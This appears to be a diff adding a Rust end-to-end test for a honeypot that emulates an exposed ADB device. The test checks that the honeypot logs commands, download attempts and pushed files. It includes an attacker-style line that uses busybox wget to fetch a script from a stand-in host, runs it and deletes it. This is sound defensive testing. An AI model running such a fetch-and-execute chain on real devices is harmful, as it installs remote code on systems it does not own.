@@ -1,0 +1,45 @@
+//! Devices with their own clients: what the client sees and what is stored agree.
+
+use crate::fleet::{Fleet, client, have, printed};
+
+/// The client's own server, on a port that nobody else's has.
+const SERVER: &str = "15337";
+
+#[test]
+fn a_box_gives_its_shell_and_files_to_its_debugger_and_keeps_what_is_pushed() {
+    if !have("adb", "adb") || !have("nmap", "nmap") {
+        return;
+    }
+    let fleet = Fleet::deploy_config(
+        102,
+        "[general]\nnet = 127.102.0.0/16\nseed = e2e\n\n[box]\nip = 127.102.1.0\ndistro = busybox-arm\n\
+         services = adb\n",
+    );
+    let target = format!("{}:15555", fleet.ip(0));
+    let adb = |words: &[&str]| {
+        let all =
+            [&["-P", SERVER][..], if words[0] == "connect" { &[] } else { &["-s", &target] }, words].concat();
+        printed(&client("adb", &all))
+    };
+    assert!(adb(&["connect", &target]).contains("connected to"));
+    assert!(adb(&["shell", "id"]).contains("uid=0(root)"));
+    let chain = "cd /data/local/tmp; busybox wget http://192.0.2.9/w.sh; sh w.sh; rm -f w.sh";
+    adb(&["shell", chain]);
+    fleet.wait_for_text("command", "command", chain);
+    fleet.wait_for_text("download_attempt", "url", "http://192.0.2.9/w.sh");
+
+    let (file, back) = (fleet.state().join("x.sh"), fleet.state().join("y.sh"));
+    std::fs::write(&file, "#!/system/bin/sh\necho pushed $1\n").unwrap();
+    adb(&["push", file.to_str().unwrap(), "/data/local/tmp/x.sh"]);
+    assert!(adb(&["shell", "sh /data/local/tmp/x.sh 7"]).contains("pushed 7"));
+    adb(&["pull", "/data/local/tmp/x.sh", back.to_str().unwrap()]);
+    assert_eq!(std::fs::read(&file).unwrap(), std::fs::read(&back).unwrap());
+    let kept = fleet.wait_for_text("file_captured", "path", "/data/local/tmp/x.sh");
+    let hash = kept["fields"]["sha256"].as_str().unwrap();
+    assert_eq!(fleet.artefact(hash), std::fs::read(&file).unwrap());
+
+    let scan = ["-Pn", "-sT", "-sV", "-p", "15555", &fleet.ip(0)];
+    let seen = printed(&client("nmap", &scan));
+    assert!(seen.contains("15555/tcp open"), "{seen}");
+    client("adb", &["-P", SERVER, "kill-server"]);
+}
